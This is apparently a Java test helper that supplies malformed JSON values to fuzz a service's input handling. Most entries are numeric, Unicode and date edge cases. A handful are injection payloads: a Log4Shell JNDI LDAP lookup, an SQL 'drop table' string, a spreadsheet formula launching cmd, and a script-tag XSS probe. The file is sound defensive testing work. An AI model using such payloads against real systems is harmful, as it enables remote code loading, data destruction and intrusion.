package fangfan.service.badinput;

import java.util.List;
import java.util.Random;

/** Values as they are written in JSON, or nearly: few are right anywhere, none is right everywhere. */
final class BadValues {

    private static final String M = Shape.MARKER;

    private static final List<String> WRITTEN = List.of(
            "null",
            "true",
            "false",
            "0",
            "-0",
            "-1",
            "1.005",
            "1e400",
            "-1e400",
            "1e-400",
            "1e999999999",
            "-1e-999999999",
            "9".repeat(400),
            "0." + "3".repeat(400),
            "NaN",
            "Infinity",
            "-Infinity",
            "+1",
            "01",
            ".5",
            "1.",
            "0x10",
            "1_000",
            "１２",
            "\"\"",
            "\" \"",
            "\"null\"",
            "\"NaN\"",
            "\"1e400\"",
            "\"１２\"",
            "\"-0\"",
            "[]",
            "{}",
            "[[]]",
            "[{}]",
            "[null]",
            "{\"\":null}",
            "{\"memberNo\":\"1\"}",
            "\"" + M + "\"",
            "\"" + M.repeat(40) + "\"",
            "\"\\u0000\"",
            "\"\\ud800\"",
            "\"\\udc00\\ud800\"",
            "\"\\u202e" + M + "\"",
            "\"\\u2066\\u200f\\ufeff\"",
            "\"\\uffff\"",
            "\"a\\u0301\"",
            "\"\\x\"",
            "\"\\u12\"",
            "\"\u0001\"",
            "\"\t\"",
            "\"2023-02-30\"",
            "\"2023-13\"",
            "\"２０２３-09\"",
            "\"2023-09-30T00:00:00Z\"",
            "\"50011610120\"",
            "\"500116101201\\n\"",
            "\"５００１１６１０１２０１\"",
            "\"110101101201\"",
            "\"9999-9\"",
            "\"healthy\"",
            "'" + M + "'",
            "undefined",
            "{\"$ref\":\"#\"}",
            "\"${jndi:ldap://x/" + M + "}\"",
            "\"'; drop table decision; --\"",
            "\"=cmd|' /C calc'!A0\"",
            "\"<script>" + M + "</script>\"",
            "/**/1",
            "1 // " + M);

    private BadValues() {}

    static String any(Random random) {
        return WRITTEN.get(random.nextInt(WRITTEN.size()));
    }
}
